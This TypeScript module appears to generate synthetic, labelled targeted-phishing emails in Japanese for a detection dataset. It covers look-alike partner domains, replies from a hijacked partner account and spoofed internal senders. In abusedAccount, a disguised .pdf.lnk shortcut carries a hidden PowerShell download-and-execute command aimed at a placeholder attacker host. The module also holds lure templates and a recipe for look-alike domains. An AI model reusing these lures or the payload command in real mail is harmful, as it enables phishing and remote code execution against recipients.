/** Attacks that live by who seems to send them: a look-alike domain with a link, a partner's real account, a name of our own. */
import type { Random } from '../random.ts'
import { letterText, type Matter, matter, signature } from './business.ts'
import type { MailSet } from './labelled.ts'
import { type Letter, quoted, type Sent } from './letter.ts'
import { password, thread } from './ordinary.ts'
import { type Person, stranger } from './people.ts'
import { type Aim, archive, ENCRYPTED, stub } from './reworked.ts'
import { shortcut } from './shell-files.ts'
import { zip } from './zip.ts'

export type Targeted = (set: MailSet, aim: Aim, random: Random) => Sent

/** Written anew, from a domain that looks like a partner's. */
export function lookalike(
  set: MailSet,
  aim: Aim,
  random: Random,
): { from: Person; about: Matter; text: (more: string[]) => string } {
  const partner = random.pick(random.pick(set.world.partners).staff)
  const from: Person = {
    ...partner,
    address: partner.address.replace(/@.*/, `@${neighbour(partner.company.domain, random)}`),
  }
  const domain = from.address.replace(/.*@/, '')
  from.company = {
    ...partner.company,
    domain,
    host: `mail.${domain}`,
    ip: stranger('', from.address).company.ip,
    signs: random.next() < 0.5,
  }
  const about = matter(random, aim.time)
  return {
    from,
    about,
    text: (more) => letterText({ ...partner, address: from.address }, aim.victim, [...about.lines, ...more], random),
  }
}

/** One letter off, another ending, or a word added. */
export function neighbour(domain: string, random: Random): string {
  const [label = '', ...zone] = domain.split('.')
  return random.pick([
    `${label.replace('-', '')}.${zone.join('.')}`,
    `${label.replace(/i/, 'l')}.${zone.join('.')}` === domain
      ? `${label}-jp.com`
      : `${label.replace(/i/, 'l')}.${zone.join('.')}`,
    `${label}.${zone.join('.') === 'com' ? 'net' : 'com'}`,
    `${label}-hd.com`,
    `${label.replace(/n/, 'm')}.jp`,
  ])
}

/** No attachment: a link to the attacker's own page or a cloud drive, and the password in the mail. */
export const link: Targeted = (set, aim, random) => {
  const { from, about, text } = lookalike(set, aim, random)
  const url = random.pick([
    `https://${aim.place}/share/${random.whole(1e5, 9e5)}/${encodeURIComponent(about.stem)}.zip`,
    `https://${aim.place}/d/${random.whole(1e5, 9e5)}.zip`,
  ])
  return set.attack(
    'link-password',
    '標的型',
    {
      from,
      to: [aim.victim],
      subject: about.subject,
      text: text([
        '',
        'ファイルの容量が大きいため、次のURLからダウンロードしてください。',
        url,
        `パスワード：${password(random)}`,
      ]),
      time: aim.time,
    },
    `似たドメインから、攻撃者の場所 ${aim.place} のZIPへのリンクとパスワード`,
    ['download-link', 'lookalike-domain'],
  )
}

/** A partner's real account answers in a real thread: SPF and DKIM pass. */
export const abusedAccount: Targeted = (set, aim, random) => {
  const before = thread(set, random).filter((one) => one.letter.from.company !== set.world.own)
  const last = before.at(-1) as Sent
  const from = last.letter.from
  const about = matter(random, aim.time)
  const word = password(random)
  const file = {
    name: `${about.stem}.pdf.lnk`,
    content: shortcut(
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      `-w hidden -c "iex(iwr https://${aim.place}/s)"`,
      '%ProgramFiles%\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe',
    ),
  }
  return set.attack(
    'abused-account',
    '標的型',
    {
      from,
      to: [
        last.letter.to.find((one) => one.company === set.world.own) ?? aim.victim,
        ...(last.letter.to.includes(aim.victim) ? [] : [aim.victim]),
      ],
      subject: last.letter.subject.startsWith('Re:') ? last.letter.subject : `Re: ${last.letter.subject}`,
      text: `${letterText(from, aim.victim, ['先日の件、修正版の資料をお送りいたします。', 'お手数ですがご確認をお願いいたします。', '', `パスワード：${word}`], random)}\n${quoted(last, from.style)}`,
      attachments: [archive(`${about.stem}.zip`, zip([file], { password: word, names: 'shift_jis', random }))],
      time: Math.max(aim.time, last.letter.time + 3600),
      answers: last,
    },
    '乗っ取られた取引先の正規アカウントから、実在のやり取りへの返信（SPF・DKIMは合格）',
    ['shortcut-attachment', ...ENCRYPTED],
  )
}

/** In the name of somebody of ours; the password comes in the next mail. */
export const ownName: Targeted = (set, aim, random) => {
  const { world } = set
  const boss = world.own.staff.find((one) => one !== aim.victim) as Person
  const outside = stranger(
    boss.name,
    `smtp@vps${random.whole(10, 99)}.${random.pick(['hosting-lab.net', 'cloud-node.info'])}`,
    { style: 'thunderbird' },
  )
  const about = matter(random, aim.time)
  const word = password(random)
  const spoofed: Omit<Letter, 'subject' | 'text'> = {
    from: outside,
    headerFrom: boss.address,
    to: [aim.victim],
    time: aim.time,
    results: { spf: random.pick(['fail', 'softfail']), dkim: 'none', dmarc: 'fail', signed: '' },
    envelope: boss.address,
  }
  const why = '社内の人の実アドレスを騙り、外部のサーバから送信（SPF・DMARC不合格）'
  const first = set.attack(
    'own-name',
    '標的型',
    {
      ...spoofed,
      subject: about.subject,
      text: `お疲れ様です。\n\n${about.lines[0]}\nパスワードは別途送ります。\n\n${signature(boss)}`,
      attachments: [
        archive(
          `${about.stem}.zip`,
          zip([{ name: `${about.stem}.scr`, content: stub(random, 'folder') }], { password: word, random }),
        ),
      ],
    },
    why,
    ['authentication-failure', 'impersonated-sender', ...ENCRYPTED],
  )
  set.attack(
    'own-name',
    '標的型',
    {
      ...spoofed,
      subject: `PW: ${about.subject}`,
      text: `パスワード：${word}\n\n${signature(boss)}`,
      time: aim.time + 60,
    },
    why,
    ['authentication-failure', 'impersonated-sender'],
  )
  return first
}
